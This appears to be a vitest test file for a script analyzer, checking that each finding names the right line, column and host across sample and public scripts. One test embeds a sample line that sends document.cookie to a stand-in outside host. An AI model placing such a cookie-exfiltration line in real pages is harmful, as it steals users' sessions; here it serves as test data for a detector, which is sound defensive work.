import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { describe, expect, it } from "vitest";
import { loadCorpus } from "./load-corpus.ts";
import { problemsOf } from "./sentence-problems.ts";

/** Every fourth sample in a usual run. */
const STRIDE = process.env.SCRIPTORIUM_SHORT === "1" ? 4 : 1;
const timeout = 240_000;

/** A folder of public scripts, as `npm run bench analyzer -- --corpus` takes it; only its tuning half may be given. */
const publicFolder = process.env.SCRIPTORIUM_PUBLIC_SCRIPTS ?? "";

describe("each sentence about a script names what stands at its place", () => {
	it.each(["tuning", "seeds"] as const)("in the samples of %s", { timeout }, (half) => {
		const samples = loadCorpus(half).filter((_, index) => index % STRIDE === 0);
		const found = samples.flatMap(({ file, code }) =>
			problemsOf({ code }, analyzeScript({ code })).map((one) => `${file} ${one}`),
		);
		expect(found).toEqual([]);
	});

	it("which is noticed where it does not", () => {
		const code =
			'const a = "https://a.stranger.test/";\nconst b = "https://b.stranger.test/";\nfetch(b + document.cookie);\nfetch("/own");\n';
		const result = analyzeScript({ code });
		const [found] = result.vulnerabilities;
		if (!found) throw new Error("The sample has no finding.");
		const changed = (change: Partial<typeof found>) =>
			problemsOf({ code }, { ...result, vulnerabilities: [{ ...found, ...change }] });
		expect(changed({})).toEqual([]);
		expect(changed({ line: 9 })).toHaveLength(1);
		expect(changed({ column: 80 })).toHaveLength(1);
		expect(changed({ description: found.description.replace("b.stranger", "a.stranger") })).toHaveLength(1);
		expect(changed({ line: 4, column: 1, path: [] }).length).toBeGreaterThan(0);
	});

	// Not `runIf`: a skipped test counts as failed.
	const folders = existsSync(publicFolder) ? [publicFolder] : [];
	it.each(folders)("in the public scripts of %s", { timeout: 3_600_000 }, (folder) => {
		const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith(".js"));
		const found = files.flatMap((name) => {
			const code = readFileSync(join(folder, name), "utf8");
			return problemsOf({ code }, analyzeScript({ code })).map((one) => `${name} ${one}`);
		});
		expect(found).toEqual([]);
	});
});
